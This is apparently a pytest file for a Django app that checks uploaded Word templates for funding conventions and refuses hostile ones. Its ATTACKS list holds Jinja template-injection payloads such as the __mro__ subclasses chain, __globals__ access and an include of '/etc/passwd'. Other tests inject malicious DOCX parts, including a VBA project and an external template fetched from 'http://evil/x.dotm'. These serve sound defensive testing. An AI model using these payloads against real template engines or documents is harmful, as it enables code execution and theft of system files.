"""Models of a convention: what attacks is refused, what is sound is tried, kept and served."""

import io
import zipfile

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from probant.directory.actions import adopt_card
from probant.documents.filling import BadModel, check_model, fill
from probant.funding.catalogue.draft_model import shipped_model
from probant.funding.models import DraftModel
from probant.funding.queries.drafting import sample_values
from probant.funding.tests import scenario
from probant.governance.tests.test_screens import client_of, text_of

pytestmark = pytest.mark.django_db
SURE = {"oui": "1"}


@pytest.fixture
def world():
    made = scenario.world()
    adopt_card(made.awa, made.metropole)
    return made


@pytest.fixture
def awa(world):
    return client_of(world.house.organisation, "officer")


def made_of(*lines):
    document = docx.Document()
    for line in lines:
        document.add_paragraph(line)
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


ATTACKS = {
    "class": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "subscript": "{{ ''['__class__'] }}",
    "attr filter": "{{ ''|attr('__class__') }}",
    "joined": "{{ ''[['__cl','ass__']|join] }}",
    "globals": "{{ cycler.__init__.__globals__ }}",
    "call": "{{ convention.intitule.format(convention) }}",
    "range": "{% for i in range(1000000000) %}x{% endfor %}",
    "multiply": "{{ 'x' * 1000000000 }}",
    "import": "{% import 'x' as y %}",
    "include": "{% include '/etc/passwd' %}",
    "set": "{% set x = 1 %}",
    "macro": "{% macro m() %}{% endmacro %}",
    "safe": "{{ convention.intitule|safe }}",
    "unknown": "{{ inconnu }}",
    "unclosed": "{% for a in articles %}",
    "bomb": "{%p for a in articles %}" * 4 + "x" + "{%p endfor %}" * 4,
    "nested": "".join("{% for a in articles %}" for _ in range(4)) + "x" + "{% endfor %}" * 4,
}


@pytest.mark.parametrize("name", ATTACKS)
def test_a_model_that_attacks_is_refused_in_french(name):
    with pytest.raises(BadModel) as refused:
        check_model(made_of(ATTACKS[name]), sample_values())
    assert str(refused.value).endswith((".", "boucle.", "livré."))


def test_a_model_hides_nothing_in_its_header_or_properties():
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = ATTACKS["class"]
    stream = io.BytesIO()
    document.save(stream)
    with pytest.raises(BadModel):
        check_model(stream.getvalue(), sample_values())
    document = docx.Document()
    document.core_properties.title = ATTACKS["class"]
    stream = io.BytesIO()
    document.save(stream)
    with pytest.raises(BadModel):
        check_model(stream.getvalue(), sample_values())


def changed(data, name, content):
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(stream, "w") as made:
        for part in old.infolist():
            if part.filename != name:
                made.writestr(part, old.read(part))
        made.writestr(name, content)
    return stream.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("word/vbaProject.bin", b"x"),
        ("word/embeddings/oleObject1.bin", b"x"),
        (
            "word/_rels/settings.xml.rels",
            b'<Relationships><Relationship Id="r" Type="x/attachedTemplate" '
            b'Target="http://evil/x.dotm" TargetMode="External"/></Relationships>',
        ),
        ("word/footnotes.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
    ],
)
def test_a_model_with_foreign_parts_is_refused(name, content):
    with pytest.raises(BadModel):
        check_model(changed(made_of("x"), name, content), sample_values())


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"%PDF-1.4", b"x" * 100])
def test_what_is_no_word_document_is_refused(data):
    with pytest.raises(BadModel, match="n’est pas un document Word"):
        check_model(data, sample_values())


def test_the_shipped_model_is_filled_and_text_is_escaped():
    values = sample_values()
    values["articles"][0]["paragraphes"] = ["Coût < 4 000 € & « {{ convention.x }} »"]
    written = docx.Document(io.BytesIO(fill(shipped_model(), values)))
    texts = [one.text for one in written.paragraphs]
    assert "Coût < 4 000 € & « {{ convention.x }} »" in texts
    assert "Article 1 – Objet" in texts


def test_models_are_tried_kept_served_and_retired(world, awa):
    add = reverse("funding:draft-model-add")
    bad = {"name": "Ville", "upload": SimpleUploadedFile("m.docx", made_of(ATTACKS["class"]))}
    refused = awa.post(add, bad)
    assert (refused.status_code, DraftModel.objects.count()) == (422, 0)
    assert "Le modèle n’a pas le droit" in text_of(refused)
    good = {"name": "Ville", "funder": "Métropole d’essai"}
    file = SimpleUploadedFile("m.docx", made_of("{{ convention.intitule }}"))
    assert awa.post(add, {**good, "upload": file}).status_code == 302
    model = DraftModel.objects.get()
    assert model.funder == world.metropole
    assert "Ville" in text_of(awa.get(reverse("funding:draft-models")))
    served = awa.get(reverse("funding:draft-model-file", args=[model.pk]))
    assert b"".join(served.streaming_content)[:2] == b"PK"
    assert awa.get(reverse("funding:draft-model-shipped")).content == shipped_model()
    assert awa.post(reverse("funding:draft-model-retire", args=[model.pk]), SURE).status_code == 302
    assert "Ville" not in text_of(awa.get(reverse("funding:draft-models"))).replace("Ville d", "")
